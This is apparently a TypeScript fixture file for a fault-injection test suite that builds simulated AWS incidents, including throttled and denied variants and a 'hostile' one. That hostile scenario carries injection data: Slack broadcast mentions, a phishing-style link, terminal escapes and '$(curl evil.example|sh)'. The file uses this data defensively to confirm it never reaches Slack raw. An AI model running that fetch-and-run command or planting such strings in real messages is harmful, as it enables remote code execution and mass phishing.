/**
 * The simulated incidents the fault suite diagnoses: the shipped timeout incident, copies of it
 * whose AWS answers are throttled or denied source by source, and one whose AWS data (API name,
 * log lines, CloudTrail principal) is full of Slack control sequences and terminal escapes.
 * Copies get their own ids and names so they live side by side in one simulated account.
 */
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { loadScenarioFile } from '../sim/load-scenarios.ts';
import { validateScenario } from '../sim/parse-scenario.ts';
import type { Scenario } from '../sim/scenario-schema.ts';
import { DEFAULT_SCENARIO_DIR } from '../sim/start-simulated-aws.ts';

/** What a hostile AWS account or incident title might carry; none of it may reach Slack raw. */
export const HOSTILE_MARKERS = ['<!channel>', '<!here>', '<!everyone>', '<@U0EVIL>', '<https://evil.example|'] as const;
export const HOSTILE_TEXT = '<!channel> <@U0EVIL> <!here> <https://evil.example|click> $(curl evil.example|sh) \u001b]8;;https://evil.example\u0007x\u001b[2J';

export interface FaultVariant {
  scenario: Scenario;
  /** What was done to the account, for the report. */
  fault: string;
}

const ACTIONS_BY_SERVICE = ['apigateway:*', 'cloudwatch:*', 'logs:*', 'cloudtrail:*', 'lambda:*', 'elasticloadbalancing:*'];
const SOURCES_DENIED = ['cloudwatch:GetMetricData', 'logs:FilterLogEvents', 'cloudtrail:LookupEvents', 'lambda:GetPolicy', 'lambda:GetFunctionConfiguration'];

/**
 * One region per faulty account: the simulated AWS applies an account-wide denial or throttle
 * (CloudTrail's LookupEvents, CloudWatch's GetMetricData) only to a scenario seen alone in its region.
 */
const VARIANT_REGIONS = ['us-west-2', 'eu-west-1', 'eu-central-1', 'ap-southeast-2', 'ca-central-1', 'sa-east-1'];

export async function faultScenarios(): Promise<{ base: Scenario; variants: FaultVariant[]; hostile: Scenario }> {
  const base = await loadScenarioFile(join(DEFAULT_SCENARIO_DIR, 'timeout.yaml'));
  const faults = [
    {
      suffix: 'throttled',
      patch: { throttled: ACTIONS_BY_SERVICE.map((action) => ({ action, times: 2 })) },
      fault: 'every service throttles its first two calls',
    },
    ...SOURCES_DENIED.map((action, i) => ({ suffix: `denied${i}`, patch: { denied: [action] }, fault: `${action} is denied` })),
  ];
  const variants: FaultVariant[] = faults.map(({ suffix, patch, fault }, i) => {
    const region = VARIANT_REGIONS[i % VARIANT_REGIONS.length] ?? base.region;
    return { scenario: copyOf(base, suffix, patch, (json) => json.replaceAll(base.region, region)), fault: `${fault} (${region})` };
  });
  const inJson = JSON.stringify(HOSTILE_TEXT).slice(1, -1);
  const hostile = copyOf(base, 'hostile', {}, (text) =>
    text
      .replaceAll('"orders-api-hostile"', JSON.stringify(`orders ${HOSTILE_TEXT}`))
      .replaceAll('Execution failed due to a timeout error', `Execution failed due to a timeout error ${inJson}`),
  );
  // A change by a principal whose name carries the same sequences, ten minutes before the onset.
  hostile.cloudtrail = [
    ...hostile.cloudtrail,
    {
      at: -28,
      eventName: 'UpdateFunctionConfiguration20150331v2',
      eventSource: 'lambda.amazonaws.com',
      username: HOSTILE_TEXT,
      resources: [{ type: 'AWS::Lambda::Function', name: hostile.lambdas[0]?.name ?? 'fn' }],
      requestParameters: { functionName: hostile.lambdas[0]?.name ?? 'fn', description: HOSTILE_TEXT },
      responseElements: null,
    },
  ] as Scenario['cloudtrail'];
  return { base, variants, hostile: validateScenario(JSON.parse(JSON.stringify(hostile)), 'hostile') };
}

/** The base incident under new ids and names (API, functions), with `patch` applied. */
function copyOf(base: Scenario, suffix: string, patch: Partial<Scenario>, rewrite: (json: string) => string = (t) => t): Scenario {
  const apiId = createHash('sha256').update(suffix).digest('hex').replace(/\d/g, '').padEnd(10, 'q').slice(0, 10);
  let json = JSON.stringify({ ...base, ...patch, id: `${base.id}-${suffix}` });
  json = json.replaceAll(base.api.id, apiId).replaceAll(`"${base.api.name}"`, `"${base.api.name}-${suffix}"`);
  for (const fn of base.lambdas) json = json.replaceAll(fn.name, `${fn.name}-${suffix}`);
  return validateScenario(JSON.parse(rewrite(json)), `${base.id}-${suffix}`);
}
